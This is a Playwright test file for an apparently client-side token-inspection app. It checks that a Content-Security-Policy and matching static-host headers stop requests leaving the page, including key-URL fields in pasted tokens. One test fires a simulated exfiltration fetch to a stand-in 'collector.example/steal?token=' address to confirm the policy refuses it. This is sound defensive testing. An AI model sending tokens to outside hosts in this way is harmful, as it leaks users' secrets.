import { readFileSync } from 'node:fs';
import { CONTENT_SECURITY_POLICY } from '../vite.config';
import { rawToken } from './tokens';
import { expect, test } from './fixtures';

test.describe('nothing leaves the page', () => {
  test('the built page carries the Content-Security-Policy, and it refuses a cross-origin fetch', async ({
    app,
    page,
  }) => {
    await app.open();
    const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    expect(csp).toBe(CONTENT_SECURITY_POLICY);
    expect(csp).toContain("connect-src 'self'");
    const violations: string[] = [];
    page.on('console', (m) => {
      if (m.text().includes('Content Security Policy')) violations.push(m.text());
    });
    // Route the request so that, were the policy missing, the test would see it succeed rather than time out.
    await page.route('https://collector.example/**', (route) =>
      route.fulfill({ status: 200, body: 'leaked' }),
    );
    const result = await page.evaluate(() =>
      fetch('https://collector.example/steal?token=x').then(
        () => 'sent',
        () => 'refused',
      ),
    );
    expect(result).toBe('refused');
    expect(violations.join('\n')).toContain('connect-src');
  });

  test('the _headers file for static hosts has the same policy, and forbids framing', () => {
    const headers = readFileSync('dist/_headers', 'utf8');
    expect(headers).toContain(`Content-Security-Policy: ${CONTENT_SECURITY_POLICY}; frame-ancestors 'none'`);
    expect(headers).toContain('Referrer-Policy: no-referrer');
    expect(headers).toContain('X-Content-Type-Options: nosniff');
  });

  test('tokens naming keys by URL (jku, x5u) or an https issuer cause no request', async ({ app, page }) => {
    const requests: string[] = [];
    page.on('request', (r) => requests.push(r.url()));
    await app.open();
    const before = requests.length;
    await app.pasteToken(
      rawToken(
        '{"alg":"RS256","jku":"https://keys.example/jwks.json","x5u":"https://keys.example/cert.pem"}',
        '{"iss":"https://issuer.example","sub":"x"}',
      ),
    );
    await page.getByTestId('key-input').fill('{"keys":[]}');
    await expect(app.verifyStatus).not.toHaveAttribute('data-status', 'checking');
    // Lazy chunks of the app itself may load; nothing else may.
    const origin = new URL(page.url()).origin;
    expect(requests.slice(before).filter((u) => !u.startsWith(origin))).toEqual([]);
  });
});
